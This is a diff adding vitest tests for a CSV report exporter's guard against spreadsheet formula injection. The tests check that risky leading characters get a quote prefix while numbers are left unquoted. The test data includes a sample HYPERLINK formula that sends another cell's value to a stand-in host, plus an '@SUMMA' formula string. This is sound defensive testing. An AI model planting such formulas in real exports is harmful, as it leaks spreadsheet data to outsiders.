@@ -1,7 +1,7 @@
 import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { ReportError, reportCsv } from "../../src/index.js";
-import { NASTY_COMMENT, sampleEvaluation } from "../support/evaluation.js";
+import { AT_COMMENT, FORMULA_TITLE, NASTY_COMMENT, PLUS_TEXT, formulaEvaluation, sampleEvaluation } from "../support/evaluation.js";
 import { deepFreeze } from "../support/plans.js";
 
 const SV_HEADER =
@@ -89,6 +89,46 @@ describe("reportCsv", () => {
     const frozen = deepFreeze(sampleEvaluation());
     reportCsv(frozen, { lang: "en" });
     expect(frozen).toEqual(sampleEvaluation());
+  });
+
+  it("puts a ' before text that a spreadsheet would run as a formula, never before a number", () => {
+    const guarded = reportCsv(deepFreeze(formulaEvaluation()), { year: 2019 });
+    expect(guarded).toContain(
+      '\r\n1;"\'=HYPERLINK(""https://example.invalid/?d=""&E2;""Klicka här"")";1.1;1.1-1;' +
+        "'+46 470-123 45 svarar på frågor om utbildningen;2019;met;Uppfyllt;45;40;;7;Målet 40 är nått (45).;" +
+        "'@SUMMA(1+1) enligt kommunens rapport\r\n",
+    );
+    // A fall of 5 is a number in a number column: no quote, so the spreadsheet can add it up.
+    expect(guarded).toContain("\r\n1;En effektiv brottsbekämpning av illegal handel;1.3;1.3-1;Antal samverkansträffar mellan polis och kommuner;2019;not_met;Ej uppfyllt;3;10;;-5;");
+    const records = Papa.parse<string[]>(guarded.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;
+    const row = records.find((r) => r[3] === "1.1-1");
+    expect([row?.[1], row?.[4], row?.[13]]).toEqual([`'${FORMULA_TITLE}`, `'${PLUS_TEXT}`, `'${AT_COMMENT}`]);
+    expect(records.find((r) => r[3] === "1.3-1")?.[11]).toBe("-5");
+  });
+
+  it.each(["=", "+", "-", "@", "\t", "\r"])("guards text that starts with %j, and only at the start", (start) => {
+    const evaluation = sampleEvaluation();
+    const indicator = evaluation.subGoals[1]?.areas[0]?.activities[0]?.indicators[0];
+    if (indicator === undefined) throw new Error("the sample has changed");
+    indicator.text = `${start}1+1`;
+    const csv = reportCsv(evaluation, { year: 2019, lang: "en" });
+    const records = Papa.parse<string[]>(csv.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;
+    expect(records.find((r) => r[3] === "2.1-1")?.[4]).toBe(`'${start}1+1`);
+    indicator.text = `1${start}1`;
+    const inside = reportCsv(evaluation, { year: 2019, lang: "en" });
+    const inner = Papa.parse<string[]>(inside.slice(1), { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;
+    expect(inner.find((r) => r[3] === "2.1-1")?.[4]).toBe(`1${start}1`);
+  });
+
+  it("writes the text as it is with formulaGuard false", () => {
+    const raw = reportCsv(formulaEvaluation(), { year: 2019, formulaGuard: false });
+    expect(raw).toContain(
+      '\r\n1;"=HYPERLINK(""https://example.invalid/?d=""&E2;""Klicka här"")";1.1;1.1-1;' +
+        "+46 470-123 45 svarar på frågor om utbildningen;2019;met;Uppfyllt;45;40;;7;Målet 40 är nått (45).;" +
+        "@SUMMA(1+1) enligt kommunens rapport\r\n",
+    );
+    // The guard changes nothing in text that starts no formula.
+    expect(reportCsv(sampleEvaluation(), { formulaGuard: false })).toBe(csv);
   });
 
   it("refuses a delimiter, a year or a language it cannot use", () => {
